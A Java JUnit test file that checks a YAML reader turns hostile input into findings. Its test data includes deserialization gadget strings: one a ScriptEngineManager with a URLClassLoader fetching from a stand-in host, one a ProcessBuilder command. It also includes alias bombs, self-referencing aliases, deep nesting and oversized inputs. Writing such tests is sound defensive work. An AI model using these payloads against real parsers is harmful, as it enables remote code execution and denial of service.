package io.github.proposals.model.yaml;

import static io.github.proposals.model.yaml.GivenYaml.failing;
import static io.github.proposals.model.yaml.GivenYaml.mapping;
import static io.github.proposals.model.yaml.GivenYaml.reader;
import static io.github.proposals.model.yaml.GivenYaml.sequence;
import static io.github.proposals.model.yaml.GivenYaml.value;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.proposals.model.diagnostic.Finding;
import java.time.Duration;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** No YAML, however hostile, does more than make a finding. */
class HostileYamlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://a.example/']]]]",
                "!!java.lang.ProcessBuilder [['touch', 'x']]",
                "key: !!java.util.Date 2026-01-01"
            })
    void aTagThatNamesAClassIsAFinding(String yaml) {
        assertTrue(failing(yaml).message().startsWith("this is not YAML: Global tag is not allowed"));
    }

    @Test
    void aTagOfYamlDoesNotChangeAValue() {
        assertAll(
                () -> assertEquals("12", value("key: !!str 12", "key")),
                () -> assertEquals("aGk=", value("key: !!binary aGk=", "key")),
                () -> assertEquals("x", value("key: !local x", "key")));
    }

    @Test
    void aBombOfAliasesIsAFinding() {
        String bomb = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n"
                + IntStream.rangeClosed(1, 9)
                        .mapToObj(i -> "a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ", ").repeat(9) + "]\n")
                        .collect(Collectors.joining());

        assertFails(bomb);
    }

    @Test
    void aBombOfFewAliasesIsAFinding() {
        String bomb = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n"
                + IntStream.rangeClosed(1, 20)
                        .mapToObj(i -> "a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ", ").repeat(2) + "]\n")
                        .collect(Collectors.joining());

        assertTooMuch(bomb);
    }

    @Test
    void aListThatHoldsItselfIsAFinding() {
        assertTooMuch("a: &a [*a]\n");
    }

    @Test
    void aMappingThatHoldsItselfIsAFinding() {
        assertTooMuch("&a\nkey: *a\n");
    }

    @Test
    void deepNestingIsAFinding() {
        assertAll(
                () -> assertFails("a: " + "[".repeat(20_000) + "]".repeat(20_000)),
                () -> assertFails("{a: ".repeat(20_000)),
                () -> assertFails("- ".repeat(20_000) + "x"));
    }

    @Test
    void theDepthThatPeopleWriteIsFine() {
        assertTrue(reader("[".repeat(20) + "x" + "]".repeat(20)).read().isPresent());
    }

    @Test
    void aFileOfMegabytesIsAFinding() {
        assertFails("key: " + "x".repeat(2 << 20));
    }

    @Test
    void moreValuesThanAnybodyWritesAreAFinding() {
        assertTooMuch("[" + "x,".repeat(60_000) + "x]");
    }

    @Test
    void manyValuesAreFine() {
        assertEquals(10_000, sequence("[" + "x,".repeat(9_999) + "x]").items().size());
    }

    @Test
    void aMergeKeyIsAKeyLikeAnyOther() {
        YamlNode.Mapping mapping = mapping("base: &base {a: 1}\nkey:\n  <<: *base\n  b: 2\n");
        YamlNode.Mapping key = assertInstanceOf(
                YamlNode.Mapping.class, mapping.entries().get("key").value());

        assertEquals(List.of("<<", "b"), List.copyOf(key.entries().keySet()));
    }

    private void assertTooMuch(String yaml) {
        Finding finding = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> failing(yaml));

        assertEquals("more values than anybody writes, or aliases that lead back to themselves", finding.message());
    }

    private void assertFails(String yaml) {
        Finding finding = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> failing(yaml));

        assertTrue(finding.message().startsWith("this is not YAML"), finding.message());
    }
}
